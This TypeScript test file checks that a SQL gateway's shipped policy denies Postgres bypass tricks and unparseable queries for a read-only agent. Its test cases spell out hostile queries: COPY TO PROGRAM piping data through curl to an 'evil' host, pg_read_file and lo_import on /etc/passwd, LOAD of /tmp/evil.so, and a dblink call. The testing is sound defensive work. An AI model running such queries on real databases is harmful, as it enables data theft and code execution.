/**
 * How enforcement is known to break elsewhere, a sentence each, and that it does not here: what the facts say, and
 * that the shipped policy lets none of it pass for an agent that may read everything and nothing else.
 *
 * Of the same list, what is no text is tested where it arrives: FunctionCall and startup options in
 * `test/postgres/connect.test.ts` and `startup.test.ts`, replication in `startup.test.ts`, masks in `trace.test.ts`,
 * pipelines and skipped messages in `test/postgres/confusion.test.ts`.
 */
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { SqlFacts } from '../../gateway/facts.ts'
import { readBundle } from '../../gateway/policy/bundle.ts'
import { type Policy, policy } from '../../gateway/policy/policy.ts'
import type { Scope } from '../../gateway/sql/scope.ts'
import { logs } from '../policy/logs.ts'
import { session, sqlOperation } from '../policy/questions.ts'
import { openShop, type Shop } from './shop.ts'

let shop: Shop
let scope: Scope
let shipped: Policy

beforeAll(async () => {
  shop = await openShop(18)
  scope = await shop.scope()
  const folder = join(import.meta.dirname, '../../bundle')
  const bundle = await readBundle((name) => readFile(join(folder, name)))
  shipped = policy({ bundle, log: logs(), now: Date.now })
})
afterAll(() => shop.stop())

function facts(text: string, overrides: Partial<Scope> = {}): SqlFacts {
  return shop.analyse(text, { ...scope, ...overrides }).facts
}

function effect(text: string, seen: SqlFacts): string {
  const at = session('reporting', { name: 'shop', kind: 'postgres', labels: {} })
  return shipped.decide({
    session: at,
    operation: sqlOperation({}, { text, facts: seen }),
    approval: undefined,
  }).effect
}

/** `relation access …; command …; function …`, whatever there is of the words that a case asks for. */
function words({ commands, relations, functions, settings, programs, files }: SqlFacts): string[] {
  return [
    ...commands,
    ...relations.map(({ name, access }) => `${name} ${access.join('+')}`),
    ...functions.map(({ name }) => `${name}()`),
    ...settings.map((name) => `${name}=`),
    ...programs,
    ...files,
  ]
}

test('what a plain SELECT says is allowed, so that the rest proves something', () => {
  const text = 'SELECT id FROM orders WHERE id = 1'

  expect(effect(text, facts(text))).toBe('allow')
})

test.each([
  ['a write is behind a comment', '/* SELECT */ DELETE FROM orders', ['delete', 'orders read+write']],
  ['comments are nested', '/* /* */ SELECT 1 */ DELETE FROM orders', ['delete']],
  ['a comment stands in the place of a space', 'DROP/**/TABLE orders', ['drop table', 'orders write']],
  [
    'the second statement of a text is the one that counts',
    'SELECT 1; DROP TABLE orders',
    ['select', 'drop table'],
  ],
  [
    'a CTE writes',
    'WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x',
    ['delete', 'orders read+write'],
  ],
  ['EXPLAIN runs what it explains', 'EXPLAIN ANALYZE DELETE FROM orders', ['explain', 'delete']],
  ['PREPARE hides what EXECUTE runs', 'PREPARE p AS DELETE FROM orders; EXECUTE p', ['delete', 'execute']],
  [
    'a cursor hides what FETCH reads',
    'DECLARE c CURSOR FOR SELECT pg_read_file($$x$$); FETCH c',
    ['pg_read_file()'],
  ],
  ['DELETE has a WHERE that is always true', 'DELETE FROM orders WHERE true', ['delete']],
  ['TRUNCATE is no DELETE', 'TRUNCATE orders', ['truncate', 'orders write']],
  ['SELECT makes a table', 'SELECT * INTO stolen FROM orders', ['create table as', 'stolen write']],
  ['DROP OWNED names no table', 'DROP OWNED BY postgres', ['drop owned']],
  [
    'COPY to a program is no read',
    "COPY orders TO PROGRAM 'curl -d @- evil'",
    ['copy program', 'curl -d @- evil'],
  ],
  ['COPY of a query goes to a file', "COPY (SELECT 1) TO '/tmp/x'", ['copy file', '/tmp/x']],
  ['COPY writes by a query', 'COPY (DELETE FROM orders RETURNING *) TO STDOUT', ['delete', 'copy to']],
  ['the name of the setting is computed', "SELECT set_config('ro'||'le', 'x', false)", ['*=']],
  [
    'standard_conforming_strings is turned off',
    'SET standard_conforming_strings = off',
    ['standard_conforming_strings='],
  ],
  ['the role changes', 'SET ROLE postgres', ['role=']],
  [
    'the role changes by a function',
    "SELECT set_config('role', 'postgres', false)",
    ['role=', 'set_config()'],
  ],
  [
    'the role changes by a system view',
    "UPDATE pg_settings SET setting = 'x' WHERE name = 'role'",
    ['update'],
  ],
  [
    'a function takes SQL as text',
    "SELECT query_to_xml('DELETE FROM orders', true, true, '')",
    ['query_to_xml()'],
  ],
  [
    'a function takes the name of a table',
    "SELECT table_to_xml('customers', true, true, '')",
    ['table_to_xml()'],
  ],
  ['a function reads a file', "SELECT pg_read_file('/etc/passwd')", ['pg_read_file()']],
  ['a large object is a file', "SELECT lo_import('/etc/passwd')", ['lo_import()']],
  ['a large object leaves as a file', "SELECT lo_export(1, '/tmp/x')", ['lo_export()']],
  ['DO runs code', 'DO $$ BEGIN DELETE FROM orders; END $$', ['do']],
  ['CALL runs code', 'CALL tidy()', ['call', 'tidy()']],
  ['a function runs as its owner', 'SELECT owner_name()', ['owner_name()']],
  ['an operator is a function', "SELECT 1 FROM orders WHERE note @@@ 'x'", ['reveal()']],
  ['a column is a function of the row', 'SELECT o.everything FROM orders o', ['everything()']],
  ['a library is loaded', "LOAD '/tmp/evil.so'", ['load', '/tmp/evil.so']],
  ['statistics show values', 'SELECT most_common_vals FROM pg_stats', ['pg_stats read']],
  ['other sessions show their statements', 'SELECT query FROM pg_stat_activity', ['pg_stat_activity read']],
  [
    'a rule is made that rewrites',
    'CREATE RULE r AS ON SELECT TO ruled DO INSTEAD SELECT 1',
    ['create rule'],
  ],
  ['a transaction is left behind', "PREPARE TRANSACTION 'x'", ['prepare transaction']],
  ['NOTIFY carries values away', "NOTIFY evil, 'value'", ['notify']],
])('%s', (_what, text, expected) => {
  const seen = facts(text)

  expect(words(seen)).toEqual(expect.arrayContaining(expected))
  expect(effect(text, seen)).toBe('deny')
})

test.each([
  ['the second table of a comma join', 'SELECT 1 FROM orders, customers', ['customers', 'orders']],
  ['a name in U&"…"', 'SELECT 1 FROM U&"cust\\006fmers"', ['customers']],
  [
    'a name in U&"…" with an escape of its own',
    'SELECT 1 FROM U&"cust!006fmers" UESCAPE \'!\'',
    ['customers'],
  ],
  ['a name in other letters', 'SELECT 1 FROM "customers", ORDERS', ['customers', 'orders']],
  ['the short form of SELECT', 'TABLE customers', ['customers']],
  [
    'a subquery in a place where nobody looks',
    'SELECT 1 LIMIT (SELECT count(*) FROM customers)',
    ['customers'],
  ],
  [
    'a table behind a CTE of the same name',
    'WITH customers AS (TABLE customers) TABLE customers',
    ['customers'],
  ],
  ['a table in the arm of a set operation', 'SELECT 1 UNION (SELECT 2 FROM customers)', ['customers']],
  ['a string that only looks like a name', "SELECT 'FROM customers' FROM orders", ['orders']],
])('facts name %s', (_what, text, expected) => {
  const seen = facts(text)

  expect(seen.status).toBe('known')
  expect(seen.relations.map(({ name }) => name)).toEqual(expected)
})

test.each([
  ['it reads strings otherwise than the server', 'SELECT 1', { readsAsWritten: false }],
  ['it is longer than the grammar takes', `SELECT '${'x'.repeat(70_000)}'`, {}],
  ['it is deeper than anybody writes', `SELECT ${'('.repeat(1_500)}1${')::int'.repeat(1_500)}`, {}],
  ['a NUL ends it for one and not for the other', 'SELECT 1\0; DROP TABLE orders', {}],
  ['it is no SQL', 'SELEC 1', {}],
  ['it is a command of psql', '\\! cat /etc/passwd', {}],
  ['its table is of two schemas', 'TABLE orders', { searchPath: undefined }],
  ['its table is not there', 'TABLE nowhere', {}],
  ['its function is not there', 'SELECT dblink($$host=evil$$, $$SELECT 1$$)', {}],
  ['its statement was never prepared', 'EXECUTE unknown', {}],
  ['its table may be another since DDL', 'TABLE customers', { hasUncommittedDdl: true }],
])('what is not understood is denied, not guessed: %s', (_what, text, overrides) => {
  const seen = facts(text, overrides)

  expect(seen.status).not.toBe('known')
  expect(effect(text, seen)).toBe('deny')
})
